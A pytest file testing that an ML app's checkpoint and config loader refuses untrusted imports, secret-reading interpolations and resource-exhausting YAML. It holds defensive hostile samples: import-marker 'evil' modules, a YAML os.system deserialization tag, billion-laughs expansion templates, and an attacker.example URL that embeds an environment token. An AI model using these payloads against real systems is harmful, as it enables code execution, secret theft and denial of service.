"""Untrusted run folders: nothing they name is imported, read or expanded without consent."""

from __future__ import annotations

import copy
import sys
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from app.config import resolvers
from app.config.allowlist import TargetError, locate
from app.config.limits import load_json, load_yaml
from app.config.resolve import resolve
from app.config.template import safe_template
from app.runtime.errors import UserError
from tests.support.hostile_files import checkpoint_bytes
from tests.support.runs import job_for

resolvers.register()
JOB = job_for("model=mlp", "data.batch_size=50")
MODES = ["test", "valid", "predict", "export"]


def write_checkpoint(folder: Path, config: dict[str, Any], template: Any) -> Path:
    """Write the last.safetensors of a run folder with a configuration and its template."""
    content = {
        "config": config,
        "template": template if isinstance(template, str) else yaml.safe_dump(template),
        "model": {},
        "task": {},
        "epoch": 1,
        "history": [],
        "training": None,
        "number": 0,
    }
    file = folder / "untrusted" / "checkpoints" / "last.safetensors"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(checkpoint_bytes(content))
    return file


def copy_config() -> tuple[dict[str, Any], dict[str, Any]]:
    """Return copies of a resolved configuration and its template, to be changed."""
    return copy.deepcopy(JOB.plain), yaml.safe_load(JOB.template)


@pytest.fixture
def import_marker(tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Modules that create a file when they are imported; the fixture is its path."""
    marker = tmp_cwd / "was_here"
    monkeypatch.syspath_prepend(tmp_cwd)
    monkeypatch.setattr(sys, "dont_write_bytecode", True)
    code = f"open({str(marker)!r}, 'w').close()\nclass Net: pass\n"
    for name in ("evil", "evil/torch", "evil/torch/nn", "app/models/evil", "torchmetricsevil"):
        path = tmp_cwd / name
        path.mkdir(parents=True)
        (path / "__init__.py").write_text(code)
    (tmp_cwd / "torch").mkdir()
    (tmp_cwd / "torch" / "evil.py").write_text(code)
    return marker


@pytest.mark.parametrize("mode", MODES)
def test_untrusted_targets_are_listed_and_not_imported(
    mode: str, import_marker: Path, tmp_cwd: Path
) -> None:
    config, template = copy_config()
    node = {"_target_": "evil.torch.nn.Net"}
    config["model"] = {"_target_": "evil.Net", "_args_": [[{"deep": node}]]}
    config["callbacks"]["never"] = {"a": [1, node, {"_target_": "torchmetricsevil.Net"}]}
    config["optimizer"] = {"_target_": "app.evil.Net"}
    config["notes"] = {"nowhere": {"_target_": "torch.evil.Net"}}
    file = write_checkpoint(tmp_cwd, config, template)
    with pytest.raises(UserError) as caught:
        job_for(f"mode={mode}", f"ckpt={file.parent.parent}")
    assert str(caught.value).splitlines() == [
        f"{file.parent.parent} references code outside this program; none of it was imported:",
        "  callbacks.never.a.1._target_='evil.torch.nn.Net'",
        "  callbacks.never.a.2._target_='torchmetricsevil.Net'",
        "  model._args_.0.0.deep._target_='evil.torch.nn.Net'",
        "  model._target_='evil.Net'",
        "  optimizer._target_='app.evil.Net'",
        "if you trust that code, add "
        "trusted_targets=[app.evil,evil,evil.torch.nn,torchmetricsevil] to the command line",
    ]
    assert not import_marker.exists()


def test_resume_of_untrusted_run_imports_nothing(import_marker: Path, tmp_cwd: Path) -> None:
    config, template = copy_config()
    config["model"]["_target_"] = template["model"]["_target_"] = "evil.Net"
    folder = write_checkpoint(tmp_cwd, config, template).parent.parent
    with pytest.raises(UserError, match=r"none of it was imported:\n  model\._target_='evil"):
        job_for(f"resume={folder}")
    assert not import_marker.exists()


def test_interpolated_target_is_not_imported(import_marker: Path, tmp_cwd: Path) -> None:
    config, template = copy_config()
    template["notes"] = "evil"
    template["model"]["_target_"] = "${or:${notes},1}.Net"
    file = write_checkpoint(tmp_cwd, config, template)
    job_for("mode=test", f"ckpt={file}")
    template["model"]["_target_"] = "${data.path}.Net"
    file = write_checkpoint(tmp_cwd, config, template | {"data": template["data"] | {"path": "a"}})
    with pytest.raises(UserError, match=r"model\._target_"):
        job_for("mode=test", f"ckpt={file}", "++data.path=evil")
    assert not import_marker.exists()


@pytest.mark.parametrize("name", ["app.models.evil.Net", "torch.nn.evil.Net"])
def test_foreign_module_inside_allowed_package_is_not_imported(
    name: str, import_marker: Path, tmp_cwd: Path
) -> None:
    config, template = copy_config()
    config["model"] = {"_target_": name}
    file = write_checkpoint(tmp_cwd, config, template)
    with pytest.raises(UserError, match="cannot be imported: no 'evil' in"):
        job_for("mode=test", f"ckpt={file}")
    assert not import_marker.exists()


def test_trusted_targets_of_saved_run_are_ignored(import_marker: Path, tmp_cwd: Path) -> None:
    config, template = copy_config()
    config["model"]["_target_"] = template["model"]["_target_"] = "evil.Net"
    config["trusted_targets"] = template["trusted_targets"] = ["evil"]
    file = write_checkpoint(tmp_cwd, config, template)
    with pytest.raises(UserError, match="none of it was imported"):
        job_for("mode=test", f"ckpt={file}")
    assert not import_marker.exists()


def test_trusted_targets_override_allows_import(import_marker: Path, tmp_cwd: Path) -> None:
    config, template = copy_config()
    config["model"] = template["model"] = {"_target_": "evil.Net"}
    file = write_checkpoint(tmp_cwd, config, template)
    job = job_for("mode=test", f"ckpt={file}", "trusted_targets=[evil]")
    assert job.plain["model"] == {"_target_": "evil.Net"}
    assert import_marker.exists()


def test_ckpt_refuses_torch_distributed_checkpoint(tmp_cwd: Path) -> None:
    (tmp_cwd / ".metadata").write_bytes(b"")
    with pytest.raises(UserError, match=r"is a torch\.distributed\.checkpoint"):
        job_for("mode=test", f"ckpt={tmp_cwd}")


# ---- templates of saved runs


@pytest.mark.parametrize(
    "interpolation",
    [
        "${oc.env:SECRET}",
        "${ oc.env:SECRET}",
        "${or:${oc.env:SECRET},1}",
        "${or:'${oc.env:SECRET}'}",
        "${oc.decode:${oc.env:SECRET}}",
        "${oc.select:secret}",
        "${oc.create:{a: '${oc.env:SECRET}'}}",
        "${${data}.env:SECRET}",
        "$${data}{oc.env:SECRET}",
        "${now:%Y}",
        "${hydra:runtime.cwd}",
    ],
)
def test_template_interpolations_read_nothing_of_this_machine(
    interpolation: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    more = ["${asked}", interpolation]
    raw = {"asked": interpolation, "data": "oc", "secret": "1", "more": more}
    template = safe_template(yaml.safe_dump(raw), {"asked": "then", "more": ["", 5]}, "a.pt")
    plain, mistakes = resolve(template)
    assert (plain["asked"], plain["more"], mistakes) == ("then", ["then", 5], [])


def test_template_uses_safe_resolvers(tmp_cwd: Path) -> None:
    raw = {
        "a": {"size": None, "path": "b"},
        "size": "${or:${a.size},28}",
        "path": "${path:${a.path}}",
    }
    plain, _ = resolve(safe_template(yaml.safe_dump(raw), {}, "a.pt"))
    assert (plain["size"], plain["path"]) == (28, str(tmp_cwd / "b"))


def repeat_line(first: str, line: str) -> str:
    """Return YAML in which each of 39 nodes refers to the one before, as in 'billion laughs'."""
    lines = [line.replace("THIS", f"a{n}").replace("LAST", f"a{n - 1}") for n in range(1, 40)]
    return "\n".join([first, *lines])


EXPANDING_TEMPLATES = {
    "twice the text": repeat_line("a0: ha", "THIS: ${LAST}${LAST}"),
    "twice the node": repeat_line("a0: {b: ha}", "THIS: {b: '${LAST}', c: '${LAST}'}"),
    "twice beside": repeat_line("a0: {b: ha}", "THIS: {b: '${..LAST}', c: '${..LAST}'}"),
    "twice through another": repeat_line(
        "a0: {b: {}}", "x_THIS: ${LAST}\nTHIS: {b: ['${x_THIS.b}', 1]}"
    ),
    "twice a last item": repeat_line("a0: [[1]]", "THIS: [['${LAST.-1}', '${LAST.-1}']]"),
    "broad": "a0: ha\n" + "\n".join(f"a{n}: {f'${{a{n - 1}}}' * 20}" for n in range(1, 9)),
    "a chain": "\n".join(f"a{n}: ${{a{n + 1}}}" for n in range(900)),
    "a chain the other way": repeat_line("a0: ha", "THIS: ${LAST}"),
    "deeper and deeper": repeat_line("a0: ha", "THIS: [[[[['${LAST}']]]]]"),
    "a circle": "a: ${b}\nb: ${a}",
    "a node in itself": "a: {b: '${a}'}",
}


@pytest.mark.parametrize("name", EXPANDING_TEMPLATES)
def test_expanding_template_is_refused(name: str) -> None:
    with pytest.raises(UserError, match=r"a\.pt: the saved template (grows|refers to itself)"):
        resolve(safe_template(EXPANDING_TEMPLATES[name], {}, "a.pt"))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (repeat_line("a0: &a0 [ha]", "THIS: &THIS [*LAST, *LAST]"), "more than 100,000 values"),
        (
            repeat_line("a0: &a0 {b: 1}", "THIS: &THIS {<<: [*LAST, *LAST]}"),
            "more than 100,000 values",
        ),
        ("a: &a [*a]", "an alias refers to itself or to an unknown anchor"),
        ("[" * 100_000, "nests values more than 64 deep"),
        ("- " * 100_000, "nests values more than 64 deep"),
        ("a: " + "b" * 60_000, "a value of 60,000 characters"),
        ("? " + "b" * 60_000 + "\n: 1", "a value of 60,000 characters"),
        ("#" * 3_000_000, "has 3,000,000 characters"),
        ("a: " + "1:" * 5000 + "1", "an integer of more than 64 bits"),
        ("a: " + "9" * 5000, "is not YAML"),
        ("a: !!python/object/apply:os.system [id]", "could not determine a constructor"),
        (
            "a: !!python/object/apply:pathlib.PosixPath [a]",
            "a value of type PosixPath, which is not supported",
        ),
        ("a: !!binary aGE=", "a value of type bytes, which is not supported"),
        ("? [a]\n: 1", "found unhashable key"),
        ("a: \0", "is not YAML"),
        (5, "must be a YAML text, not int"),
    ],
)
def test_load_yaml_beyond_limits_fails(text: Any, message: str) -> None:
    with pytest.raises(UserError, match=r"^mine: |^mine (is|has|must) ") as caught:
        load_yaml(text, "mine")
    assert message in str(caught.value)
    assert len(str(caught.value)) < 400


def test_load_yaml_within_limits_reads_like_omegaconf() -> None:
    text = "a: &a {b: 1e-3, c: 2026-01-01}\nd: *a\ne: {<<: *a, c: on}\n3: [null, '4']"
    shared = {"b": 0.001, "c": "2026-01-01"}
    expected = {"a": shared, "d": shared, "e": {"b": 0.001, "c": True}, 3: [None, "4"]}
    assert load_yaml(text, "mine") == expected


def test_load_json_beyond_limits_fails() -> None:
    assert load_json('{"a": [1, NaN]}', "mine").keys() == {"a"}
    for text in ("[" * 500_000, "[" * 65 + "]" * 65, "1" * 5000, str(2**64), "{", b"1"):
        with pytest.raises(UserError, match=r"^mine"):
            load_json(text, "mine")


# ---- arbitrary values in the configuration

KEYS = [
    ".".join(map(str, path))
    for path in [
        ("model",),
        ("model", "_target_"),
        ("data",),
        ("data", "source"),
        ("data", "source", "train"),
        ("data", "split"),
        ("trainer",),
        ("trainer", "devices"),
        ("scheduler",),
        ("scheduler", "lr_scheduler"),
        ("optimizer",),
        ("loss",),
        ("metric",),
        ("metric", "test"),
        ("callbacks",),
        ("goal",),
        ("goal", "metric"),
        ("checkpoint",),
        ("checkpoint", "monitors"),
        ("task",),
        ("average",),
        ("hydra",),
        ("seed",),
    ]
]
VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(max_size=5)
    | st.sampled_from(["???", "${a}"]),
    lambda inner: (
        st.lists(inner, max_size=2)
        | st.dictionaries(
            st.sampled_from(["_target_", "_args_", "_partial_", "a", ""]), inner, max_size=2
        )
    ),
    max_leaves=5,
)
CHANGES = st.dictionaries(st.sampled_from(KEYS), VALUES, min_size=1, max_size=3)


def with_changes(config: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    config = copy.deepcopy(config)
    for path, value in changes.items():
        *outer, last = path.split(".")
        node: Any = config
        for key in outer:
            node = node.get(key) if isinstance(node, dict) else None
        if isinstance(node, dict):
            node[last] = value
    return config


def check_config(folder: Path, changes: dict[str, Any], in_template: bool) -> None:
    config, template = copy_config()
    file = write_checkpoint(
        folder,
        with_changes(config, changes),
        with_changes(template, changes) if in_template else template,
    )
    for arguments in (("mode=test", f"ckpt={file}"), (f"resume={file.parent.parent}",)):
        try:
            job_for(*arguments, "trainer.limit_test_batches=3")
        except UserError as error:
            assert len(str(error)) < 20_000


@pytest.mark.parametrize(
    "changes",
    [
        {"scheduler": -1},
        {"scheduler": {"_target_": "torch.nn.Linear"}},
        {"scheduler.lr_scheduler": 5},
        {"optimizer": {"_target_": "torch.nn.Linear", "_args_": None}},
        {"trainer": []},
        {"hydra": {"a": [{}]}, "data": None},
    ],
)
def test_malformed_saved_config_fails_with_user_error(
    tmp_cwd: Path, changes: dict[str, Any]
) -> None:
    check_config(tmp_cwd, changes, True)
    check_config(tmp_cwd, changes, False)


@pytest.mark.long
@settings(
    max_examples=150,
    deadline=None,
    database=None,
    phases=[Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(changes=CHANGES, in_template=st.booleans())
def test_random_saved_config_fails_with_user_error(
    tmp_cwd: Path, changes: dict[str, Any], in_template: bool
) -> None:
    check_config(tmp_cwd, changes, in_template)


# ---- targets of allowed packages


@pytest.mark.parametrize(
    "name",
    [
        "app.callbacks.prediction_files.PredictionFileWriter",
        "app.data.datamodule.make_datasets",
        "app.data.torchvision_sets.download_dataset",
        "app.data.torchvision_sets.download_url",
        "torchvision.datasets.LSUN",
        "torchvision.datasets.LSUNClass",
        "torchvision.datasets.lsun.LSUN",
        "torchmetrics.functional.multimodal.clip_score.clip_score",
    ],
)
def test_locate_refuses_targets_that_run_code_or_write_files(name: str) -> None:
    with pytest.raises(TargetError, match="is not allowed"):
        locate(name)
    assert callable(locate(name, [name]))


def test_locate_refuses_name_imported_from_elsewhere() -> None:
    with pytest.raises(TargetError, match=r"is defined in 'torch\.nn\.functional'"):
        locate("app.callbacks.image_grids.interpolate")


def test_locate_finds_torch_class() -> None:
    assert locate("torch.nn.Linear") is torch.nn.Linear


def test_saved_run_reads_environment_variable_only_if_overridden(
    tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The address in the saved run could be an attacker's."""
    monkeypatch.setenv("MY_TOKEN", "t0p-s3cret")
    config, template = copy_config()
    address = "https://attacker.example/${oc.env:MY_TOKEN}"
    config["callbacks"]["mlflow"] = {
        "_target_": "app.callbacks.mlflow.MLflow",
        "tracking_uri": address,
    }
    template["callbacks"]["mlflow"] = config["callbacks"]["mlflow"]
    file = write_checkpoint(tmp_cwd, config, template)
    key = "callbacks.mlflow.tracking_uri"
    with pytest.raises(UserError) as refused:
        job_for("mode=test", f"ckpt={file}")
    assert f"{key}={address!r}: the saved run reads this variable" in str(refused.value)
    assert "t0p" not in str(refused.value)
    job = job_for("mode=test", f"ckpt={file}", f"+{key}='{address}'")
    assert "t0p-s3cret" in job.config.callbacks["mlflow"]["tracking_uri"]  # type: ignore[index]
    assert "t0p-s3cret" not in str(job.plain)
